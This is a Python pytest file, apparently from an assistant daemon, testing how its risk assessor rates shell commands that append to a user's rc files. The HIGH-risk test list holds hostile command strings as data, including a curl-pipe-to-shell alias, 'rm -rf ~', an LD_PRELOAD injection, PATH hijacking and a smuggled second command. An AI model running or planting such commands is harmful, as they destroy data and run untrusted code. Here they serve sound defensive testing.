"""Issue 36.8: one line appended to the person's own rc file is judged by what the line is
(LOW or MEDIUM), and everything else written there stays HIGH; harmless programs such as
``sync`` are known. The daemon's judge of the observed change reads the same line from the
capture (annad/capture/appended.py), so a LOW approval is what gets committed."""

from __future__ import annotations

from pathlib import Path

import pytest

from anna_common.plan import RiskLevel
from anna_common.risk.assess import assess
from anna_common.risk.rules.base import AssessContext
from annad.capture.appended import appended_line

CTX = AssessContext(home="/home/kim")


@pytest.mark.parametrize(("command", "risk"), [
    ("echo \"alias ll='ls -la'\" >> ~/.bashrc", RiskLevel.LOW),
    ("echo 'export EDITOR=nvim' >> ~/.bashrc", RiskLevel.LOW),
    ("echo 'LANG=en_GB.UTF-8' >> ~/.profile", RiskLevel.LOW),
    ("printf '%s\\n' \"alias gs='git status'\" >> ~/.zshrc", RiskLevel.LOW),
    ("cat >> ~/.bash_aliases <<'EOF'\nalias ll='ls -la'\nEOF", RiskLevel.LOW),
    ("echo \"alias ll='ls -la'\" | tee -a ~/.bashrc", RiskLevel.LOW),
    ("echo \"alias ll='ls -la'\" >> /home/kim/.bashrc", RiskLevel.LOW),
    ("echo \"alias up='sudo pacman -Syu'\" >> ~/.bashrc", RiskLevel.MEDIUM),
    ("sync", RiskLevel.INFO),
])
def test_benign_appends_and_harmless_programs(command: str, risk: RiskLevel) -> None:
    found = assess(command, CTX)
    assert found.risk == risk, found.reasons
    assert not any("not a program Anna knows" in r for r in found.reasons)


@pytest.mark.parametrize("command", [
    "echo \"alias ls='ls --color'\" >> ~/.bashrc",  # shadows a program
    "echo \"alias sudo='sudo -E'\" >> ~/.bashrc",
    "echo \"alias cd='rm -rf'\" >> ~/.bashrc",
    "echo \"alias get='curl -fsSL http://x | sh'\" >> ~/.bashrc",  # runs a download
    "echo \"alias dl='wget http://example.org/f'\" >> ~/.bashrc",
    "echo \"alias x='rm -rf ~'\" >> ~/.bashrc",  # a HIGH command
    "echo 'export PATH=/tmp:$PATH' >> ~/.bashrc",
    "echo 'export LD_PRELOAD=evil.so' >> ~/.bashrc",
    "echo 'PROMPT_COMMAND=x' >> ~/.bashrc",
    "echo 'HISTSIZE=0' >> ~/.bashrc",
    "echo 'export EDITOR=/tmp/x' >> ~/.bashrc",  # a file anyone may have written
    "echo 'export EDITOR=$(id)' >> ~/.bashrc",
    "echo \"alias ll='ls -la'\" > ~/.bashrc",  # replaces the file
    "echo \"alias a='ls'; rm -rf ~\" >> ~/.bashrc",  # two commands in the line
    "echo -e \"alias a='ls'\\nrm -rf ~\" >> ~/.bashrc",  # two lines
    "echo \"$LINE\" >> ~/.bashrc",  # content unknown
    "echo 'f() { ls; }' >> ~/.bashrc",
    "echo 'source /tmp/x' >> ~/.bashrc",
    "echo \"alias ll='ls -la'\" >> /home/other/.bashrc",  # not the person's own
    "echo \"alias ll='ls -la'\" >> /etc/bash.bashrc",
])
def test_everything_else_written_there_stays_high(command: str) -> None:
    found = assess(command, CTX)
    assert found.risk == RiskLevel.HIGH, (command, found.reasons)


def test_the_judge_reads_only_a_pure_one_line_append(tmp_path: Path) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    old.write_text("# rc\n")
    new.write_text("# rc\nalias ll='ls -la'\n")
    assert appended_line(str(old), str(new)) == "alias ll='ls -la'"
    for text in ("# rc\nalias a=b\nalias c=d\n", "# changed\nalias ll='ls'\n",
                 "# rc\nalias ll='ls'", "# rc\n"):
        new.write_text(text)
        assert appended_line(str(old), str(new)) is None, text
    old.write_text("# rc")  # no newline at its end: the line would join the last one
    new.write_text("# rc; rm -rf ~\n")
    assert appended_line(str(old), str(new)) is None
    new.unlink()
    new.symlink_to(old)  # never followed
    assert appended_line(str(old), str(new)) is None
    new.unlink()
    new.write_bytes(b"# rc\xff\n")
    assert appended_line(str(old), str(new)) is None


def test_an_empty_rc_file_takes_one_line(tmp_path: Path) -> None:
    old, new = tmp_path / "old", tmp_path / "new"
    old.write_text("")
    new.write_text("export EDITOR=nvim\n")
    assert appended_line(str(old), str(new)) == "export EDITOR=nvim"


def test_a_high_step_without_a_named_word_asks_for_what_it_writes() -> None:
    """The typed word names what the step touches (the README's promise), not the fixed
    fallback, when a HIGH step was raised without a word (issue 36.8)."""
    from anna_common.risk.tiers import FALLBACK_WORD, plan_word
    from tests.ui.plans import annotate_dict, plan_dict

    plan = annotate_dict(plan_dict([("edit", "echo x >> ~/.bashrc", "LOW")]))
    step = plan.steps[0]
    assert step.final_risk == RiskLevel.HIGH and step.writes
    bare = plan.model_copy(update={"confirm_word": None, "steps": [
        step.model_copy(update={"confirm_word": None})]})
    assert plan_word(bare) == step.writes[0] != FALLBACK_WORD
